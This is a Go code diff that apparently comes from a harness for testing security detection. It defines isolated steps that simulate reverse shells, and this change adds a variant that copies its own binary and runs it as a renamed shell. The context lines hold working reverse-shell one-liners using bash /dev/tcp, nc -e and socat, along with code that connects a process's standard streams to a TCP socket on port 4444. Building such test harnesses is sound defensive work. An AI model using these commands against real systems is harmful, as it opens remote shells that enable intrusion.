@@ -9,8 +9,11 @@ import (
 
 func init() {
 	provide(map[string]step{
-		"reverse-shell":       {run: reverseShell, isolated: true},
-		"socket-shell":        {run: socketShell, isolated: true},
+		"reverse-shell": {run: reverseShell, isolated: true},
+		"socket-shell":  {run: socketShell("sh", "-c", "exit 0"), isolated: true},
+		"socket-renamed-shell": {run: inTemporary(func(dir string) error {
+			return all(copySelf(dir+"/x"), socketShell(dir+"/x", "nothing"))()
+		}), isolated: true},
 		"bash-reverse-shell":  {run: named("bash", "-c", "bash -i >& /dev/tcp/"+peer+"/4444 0>&1")},
 		"nc-reverse-shell":    {run: named("nc", "-e", "/bin/sh", peer, "4444")},
 		"socat-reverse-shell": {run: named("socat", "TCP:"+peer+":4444", "EXEC:'bash -li',pty,stderr")},
@@ -60,25 +63,27 @@ func loopbackDialogue() error {
 }
 
 // socketShell starts a shell with a connection in the place of its terminal.
-func socketShell() error {
-	l, err := listen()
-	if err != nil {
-		return err
+func socketShell(name string, args ...string) func() error {
+	return func() error {
+		l, err := listen()
+		if err != nil {
+			return err
+		}
+		defer l.Close()
+		c, err := net.Dial("tcp4", peer+":4444")
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		f, err := c.(*net.TCPConn).File()
+		if err != nil {
+			return err
+		}
+		defer f.Close()
+		cmd := exec.Command(name, args...)
+		cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
+		return cmd.Run()
 	}
-	defer l.Close()
-	c, err := net.Dial("tcp4", peer+":4444")
-	if err != nil {
-		return err
-	}
-	defer c.Close()
-	f, err := c.(*net.TCPConn).File()
-	if err != nil {
-		return err
-	}
-	defer f.Close()
-	cmd := exec.Command("sh", "-c", "exit 0")
-	cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
-	return cmd.Run()
 }
 
 func dial() error {
